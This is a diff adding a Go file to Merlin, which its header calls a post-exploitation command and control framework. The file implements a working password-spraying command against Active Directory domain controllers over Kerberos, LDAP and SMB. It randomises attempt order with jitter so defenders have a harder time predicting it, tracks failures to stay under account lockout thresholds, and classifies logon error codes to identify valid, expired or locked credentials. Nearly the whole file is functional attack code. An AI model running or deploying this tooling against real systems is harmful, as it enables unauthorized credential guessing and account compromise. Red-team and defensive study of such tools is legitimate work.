@@ -0,0 +1,511 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bufio"
+	"encoding/asn1"
+	"errors"
+	"fmt"
+	"math/rand"
+	"os"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+const (
+	// defaultSprayDelay is the number of seconds between attempts when a delay is not provided
+	defaultSprayDelay = 5
+	// defaultSprayJitter is the percentage the delay between attempts is varied by when a jitter is not provided
+	defaultSprayJitter = 30
+	// defaultSprayWindow is the lockout observation window, in minutes, when one is not provided
+	defaultSprayWindow = 30
+	// sprayTimeout is how long each authentication attempt can take
+	sprayTimeout = 10 * time.Second
+	// maxSprayLockouts is the number of accounts the spray can lock out before it stops
+	maxSprayLockouts = 2
+)
+
+// Spray outcomes for a single authentication attempt
+const (
+	sprayValid      = "valid"
+	sprayExpired    = "expired"
+	sprayRestricted = "restricted"
+	sprayInvalid    = "invalid"
+	sprayLocked     = "locked"
+	sprayDisabled   = "disabled"
+	sprayUnknown    = "unknown"
+	sprayError      = "error"
+)
+
+// sprayConfig is a password spraying run
+type sprayConfig struct {
+	protocol  string
+	target    string
+	domain    string
+	users     []string
+	passwords []string
+	delay     time.Duration
+	jitter    int
+	threshold int
+	window    time.Duration
+}
+
+// sprays holds the failed attempts made against each account by every spray so the lockout threshold is respected
+// across runs, and the results of each run by monitor ID
+var sprays = struct {
+	sync.Mutex
+	failures map[string][]time.Time
+	results  map[string][]SprayRecord
+}{failures: make(map[string][]time.Time), results: make(map[string][]SprayRecord)}
+
+// Spray attempts to authenticate to a domain controller or server as each user with each password using Kerberos
+// pre-authentication, an LDAP simple bind, or an SMB2 NTLMv2 session setup. Every user is tried once with a password
+// before the next password, in a new random order each round, with a jittered delay between attempts. Failed attempts
+// against each account are counted across sprays and an account is not tried again until the observation window has
+// passed if another failure could reach two below the lockout threshold, or one failure when the threshold is 0 or
+// unknown. Only the agent's own attempts are counted. Users and passwords are comma separated or a file on the host
+// with one per line prefixed with @
+// spray start <kerberos|ldap|ldaps|smb> <target[:port]> <domain> <users|@file> <passwords|@file> [delay seconds] [jitter percent] [lockout threshold] [observation window minutes]
+// spray list
+// spray results [id]
+// spray stop <id>
+func Spray(cmd jobs.Command, report Reporter) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Spray() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the spray command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "start":
+		config, err := parseSpray(cmd.Args[1:])
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		description := fmt.Sprintf("%s %s %d users %d passwords", config.protocol, config.target, len(config.users), len(config.passwords))
+		m, err := startMonitor("spray", description, report, func(m *monitor, stop <-chan struct{}) error {
+			return runSpray(m, config, stop)
+		})
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		threshold := "unknown"
+		if config.threshold > 0 {
+			threshold = strconv.Itoa(config.threshold)
+		}
+		results.Stdout = fmt.Sprintf("Started spray %s against %s over %s for %d users and %d passwords every %s with %d%% jitter, lockout threshold %s, observation window %s",
+			m.ID, config.target, config.protocol, len(config.users), len(config.passwords), config.delay, config.jitter, threshold, config.window)
+	case "list":
+		results.Stdout = listMonitors("spray")
+	case "results":
+		var records []SprayRecord
+		sprays.Lock()
+		if len(cmd.Args) > 1 {
+			var ok bool
+			if records, ok = sprays.results[cmd.Args[1]]; !ok {
+				sprays.Unlock()
+				results.Stderr = fmt.Sprintf("there are no results for a spray with an ID of %s", cmd.Args[1])
+				return
+			}
+		} else {
+			for _, r := range sprays.results {
+				records = append(records, r...)
+			}
+		}
+		records = append([]SprayRecord(nil), records...)
+		sprays.Unlock()
+		if len(records) == 0 {
+			results.Stdout = "there are no spray results"
+			return
+		}
+		sort.Slice(records, func(i, j int) bool { return records[i].Time.Before(records[j].Time) })
+		var b strings.Builder
+		for _, r := range records {
+			b.WriteString(r.Time.Format(time.RFC3339) + " " + r.String() + "\n")
+		}
+		results.Stdout = b.String()
+		structured = newStructured("spray", records)
+	case "stop":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the spray stop command"
+			return
+		}
+		if err := stopMonitor("spray", cmd.Args[1]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Stopped spray %s", cmd.Args[1])
+	default:
+		results.Stderr = fmt.Sprintf("unknown spray command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// String describes the attempt for an event or table row
+func (r SprayRecord) String() string {
+	out := fmt.Sprintf("%s %s\\%s:%s %s (attempts %d, lockout risk %s)", r.Protocol, r.Domain, r.User, r.Password, r.Outcome, r.Attempts, r.Risk)
+	if r.Detail != "" {
+		out += ": " + r.Detail
+	}
+	return out
+}
+
+// parseSpray parses the spray start arguments
+func parseSpray(args []string) (config sprayConfig, err error) {
+	if len(args) < 5 {
+		return config, fmt.Errorf("expected 5 or more arguments for the spray start command, received %d", len(args))
+	}
+	config.protocol = strings.ToLower(args[0])
+	switch config.protocol {
+	case "kerberos", "ldap", "ldaps", "smb":
+	default:
+		return config, fmt.Errorf("unknown spray protocol %s, expected kerberos, ldap, ldaps, or smb", args[0])
+	}
+	config.target, config.domain = args[1], args[2]
+	if config.users, err = sprayList(args[3]); err != nil {
+		return
+	}
+	if config.passwords, err = sprayList(args[4]); err != nil {
+		return
+	}
+	if len(config.users) == 0 || len(config.passwords) == 0 {
+		return config, fmt.Errorf("the spray requires at least one user and one password")
+	}
+	numbers := []int{defaultSprayDelay, defaultSprayJitter, 0, defaultSprayWindow}
+	names := []string{"delay in seconds", "jitter percentage", "lockout threshold", "observation window in minutes"}
+	for i, arg := range args[5:] {
+		if i >= len(numbers) {
+			break
+		}
+		n, err := strconv.Atoi(arg)
+		if err != nil || n < 0 || (i == 1 && n > 100) || (i == 3 && n < 1) {
+			return config, fmt.Errorf("%s is not a valid %s", arg, names[i])
+		}
+		numbers[i] = n
+	}
+	config.delay = time.Duration(numbers[0]) * time.Second
+	config.jitter = numbers[1]
+	config.threshold = numbers[2]
+	config.window = time.Duration(numbers[3]) * time.Minute
+	return
+}
+
+// sprayList returns the comma separated values, or the lines of the file when the argument starts with @
+func sprayList(arg string) (list []string, err error) {
+	if !strings.HasPrefix(arg, "@") {
+		for _, v := range strings.Split(arg, ",") {
+			if v = strings.TrimSpace(v); v != "" {
+				list = append(list, v)
+			}
+		}
+		return
+	}
+	f, err := os.Open(arg[1:])
+	if err != nil {
+		return nil, fmt.Errorf("there was an error opening %s: %s", arg[1:], err)
+	}
+	defer f.Close()
+	scanner := bufio.NewScanner(f)
+	for scanner.Scan() {
+		if v := strings.TrimRight(scanner.Text(), "\r"); v != "" {
+			list = append(list, v)
+		}
+	}
+	if err = scanner.Err(); err != nil {
+		return nil, fmt.Errorf("there was an error reading %s: %s", arg[1:], err)
+	}
+	return
+}
+
+// allowedFailures returns how many failed attempts the spray makes against an account within the observation window
+func (c sprayConfig) allowedFailures() int {
+	if c.threshold-2 > 1 {
+		return c.threshold - 2
+	}
+	return 1
+}
+
+// risk rates how close the account is to the lockout threshold after the failed attempts
+func (c sprayConfig) risk(outcome string, failures int) string {
+	switch {
+	case outcome == sprayLocked:
+		return "locked"
+	case c.threshold <= 0:
+		return "unknown"
+	case failures >= c.threshold-1:
+		return "high"
+	case failures*2 >= c.threshold:
+		return "medium"
+	default:
+		return "low"
+	}
+}
+
+// sprayFailures returns the account's failed attempts within the observation window
+func sprayFailures(account string, window time.Duration) []time.Time {
+	sprays.Lock()
+	defer sprays.Unlock()
+	var recent []time.Time
+	for _, t := range sprays.failures[account] {
+		if time.Since(t) < window {
+			recent = append(recent, t)
+		}
+	}
+	sprays.failures[account] = recent
+	return recent
+}
+
+// runSpray makes the spray's attempts until every password was tried, the spray is stopped, or it locks out too
+// many accounts
+func runSpray(m *monitor, c sprayConfig, stop <-chan struct{}) error {
+	// #nosec G404 -- The attempt order only needs to be unpredictable to a defender, not cryptographically random
+	random := rand.New(rand.NewSource(time.Now().UnixNano()))
+	remaining := append([]string(nil), c.users...)
+	var valid, lockouts int
+	for _, password := range c.passwords {
+		random.Shuffle(len(remaining), func(i, j int) { remaining[i], remaining[j] = remaining[j], remaining[i] })
+		var next []string
+		for _, user := range remaining {
+			account := strings.ToLower(c.domain + "\\" + user)
+
+			// Wait for the oldest failure to leave the observation window if another failure could lock the account
+			if failures := sprayFailures(account, c.window); len(failures) >= c.allowedFailures() {
+				wait := time.Until(failures[len(failures)-c.allowedFailures()].Add(c.window))
+				m.event("waiting %s for the observation window before trying %s", wait.Round(time.Second), user)
+				select {
+				case <-stop:
+					return nil
+				case <-time.After(wait):
+				}
+			}
+
+			outcome, detail, err := sprayAttempt(c, user, password)
+			if err != nil {
+				return err
+			}
+			sprays.Lock()
+			if outcome == sprayInvalid {
+				sprays.failures[account] = append(sprays.failures[account], time.Now())
+			}
+			// Revocation without a prior failure from the agent means the account was already locked or disabled
+			if outcome == sprayLocked && len(sprays.failures[account]) == 0 {
+				outcome, detail = sprayDisabled, "the account was already locked out or disabled: "+detail
+			}
+			failures := len(sprays.failures[account])
+			record := SprayRecord{
+				Time:     time.Now().UTC(),
+				Protocol: c.protocol,
+				Target:   c.target,
+				Domain:   c.domain,
+				User:     user,
+				Password: password,
+				Outcome:  outcome,
+				Valid:    outcome == sprayValid || outcome == sprayExpired || outcome == sprayRestricted,
+				Detail:   detail,
+				Attempts: failures,
+				Risk:     c.risk(outcome, failures),
+			}
+			sprays.results[m.ID] = append(sprays.results[m.ID], record)
+			sprays.Unlock()
+			m.event("%s", record)
+
+			switch outcome {
+			case sprayInvalid, sprayError:
+				next = append(next, user)
+			case sprayLocked:
+				lockouts++
+				if lockouts >= maxSprayLockouts {
+					return fmt.Errorf("stopped after locking out %d accounts, the lockout threshold or observation window is wrong", lockouts)
+				}
+			}
+			if record.Valid {
+				valid++
+			}
+
+			delay := c.delay
+			if c.jitter > 0 && delay > 0 {
+				spread := int64(delay) * int64(c.jitter) / 100
+				delay += time.Duration(random.Int63n(2*spread+1) - spread)
+			}
+			select {
+			case <-stop:
+				return nil
+			case <-time.After(delay):
+			}
+		}
+		if remaining = next; len(remaining) == 0 {
+			break
+		}
+	}
+	m.event("spray complete with %d valid credentials", valid)
+	return nil
+}
+
+// sprayAttempt authenticates as the user with the password and classifies the outcome. An error is only returned when
+// the spray can not continue, such as the clock skew being too large for Kerberos
+func sprayAttempt(c sprayConfig, user, password string) (outcome, detail string, err error) {
+	switch c.protocol {
+	case "kerberos":
+		return sprayKerberos(c.target, c.domain, user, password)
+	case "ldap", "ldaps":
+		return sprayLDAP(c.target, c.protocol == "ldaps", c.domain, user, password)
+	case "smb":
+		return spraySMB(c.target, c.domain, user, password)
+	}
+	return sprayError, "", fmt.Errorf("unknown spray protocol %s", c.protocol)
+}
+
+// sprayKerberos attempts Kerberos pre-authentication. Accounts that do not require pre-authentication are verified by
+// decrypting the AS-REP, which does not count as a failed logon
+func sprayKerberos(kdc, realm, user, password string) (outcome, detail string, err error) {
+	_, asrep, err := asExchange(kdc, realm, user, password, sprayTimeout)
+	var kerr *kerberosError
+	switch {
+	case err == nil && asrep != nil:
+		etype, salt, iterations := asrep.EncPart.EType, strings.ToUpper(realm)+user, 0
+		for _, entry := range asrepETypes(asrep) {
+			if entry.EType == etype && entry.Salt != "" {
+				salt = entry.Salt
+			}
+		}
+		key, err := stringToKey(int(etype), password, salt, iterations)
+		if err != nil {
+			return sprayError, err.Error(), nil
+		}
+		if _, err = krbDecrypt(int(etype), key, 3, asrep.EncPart.Cipher); err != nil {
+			return sprayInvalid, "pre-authentication is not required, the AS-REP did not decrypt", nil
+		}
+		return sprayValid, "pre-authentication is not required", nil
+	case err == nil:
+		return sprayValid, "", nil
+	case errors.As(err, &kerr):
+		switch kerr.Code {
+		case kdcErrPreauthFailed:
+			return sprayInvalid, kerr.Error(), nil
+		case kdcErrClientRevoked:
+			return sprayLocked, kerr.Error(), nil
+		case kdcErrKeyExpired:
+			return sprayExpired, kerr.Error(), nil
+		case kdcErrPolicy:
+			return sprayRestricted, kerr.Error(), nil
+		case kdcErrCPrincipalUnknown:
+			return sprayUnknown, kerr.Error(), nil
+		case krbApErrSkew, kdcErrWrongRealm, kdcErrETypeNoSupp:
+			return sprayError, kerr.Error(), err
+		}
+		return sprayError, kerr.Error(), nil
+	}
+	return sprayError, err.Error(), nil
+}
+
+// asrepETypes returns the ETYPE-INFO2 entries from the pre-authentication data of an AS-REP
+func asrepETypes(rep *kdcRep) []etypeInfo2Entry {
+	for _, pa := range rep.PAData {
+		if pa.Type == paETypeInfo2 {
+			var entries []etypeInfo2Entry
+			if _, err := asn1.Unmarshal(pa.Value, &entries); err == nil {
+				return entries
+			}
+		}
+	}
+	return nil
+}
+
+// sprayLDAP attempts an LDAP simple bind as user@domain and classifies the Active Directory sub-error code
+func sprayLDAP(target string, secure bool, domain, user, password string) (outcome, detail string, err error) {
+	if password == "" {
+		return sprayError, "an LDAP simple bind requires a password", nil
+	}
+	conn, err := dialLDAP(target, secure, sprayTimeout)
+	if err != nil {
+		return sprayError, err.Error(), nil
+	}
+	defer conn.Close()
+	result, err := conn.bind(bindName(user, domain), password)
+	if err != nil {
+		return sprayError, err.Error(), nil
+	}
+	if result.Code == 0 {
+		return sprayValid, "", nil
+	}
+	if result.Code != 49 {
+		return sprayError, result.String(), nil
+	}
+	switch result.adCode() {
+	case "525":
+		return sprayUnknown, "the user does not exist (data 525)", nil
+	case "530", "531":
+		return sprayRestricted, fmt.Sprintf("logon is not permitted at this time or from this workstation (data %s)", result.adCode()), nil
+	case "532", "701", "773":
+		return sprayExpired, fmt.Sprintf("the password or account expired or must be changed (data %s)", result.adCode()), nil
+	case "533":
+		return sprayDisabled, "the account is disabled (data 533)", nil
+	case "775":
+		return sprayLocked, "the account is locked out (data 775)", nil
+	}
+	return sprayInvalid, result.String(), nil
+}
+
+// spraySMB attempts an SMB2 session setup with NTLMv2 and classifies the NT status
+func spraySMB(target, domain, user, password string) (outcome, detail string, err error) {
+	conn, err := dialSMB(target, sprayTimeout)
+	if err != nil {
+		return sprayError, err.Error(), nil
+	}
+	defer conn.Close()
+	login, err := conn.login(domain, user, password)
+	if err != nil {
+		return sprayError, err.Error(), nil
+	}
+	detail = ntStatus(login.Status)
+	switch login.Status {
+	case statusSuccess:
+		if login.Guest {
+			return sprayUnknown, "the server fell back to a guest session", nil
+		}
+		return sprayValid, "", nil
+	case statusLogonFailure, statusWrongPassword:
+		return sprayInvalid, detail, nil
+	case statusAccountLockedOut:
+		return sprayLocked, detail, nil
+	case statusAccountDisabled:
+		return sprayDisabled, detail, nil
+	case statusPasswordExpired, statusPasswordMustChange, statusAccountExpired:
+		return sprayExpired, detail, nil
+	case statusAccountRestriction, statusInvalidLogonHours, statusInvalidWorkstation:
+		return sprayRestricted, detail, nil
+	case statusNoSuchUser:
+		return sprayUnknown, detail, nil
+	}
+	return sprayError, detail, nil
+}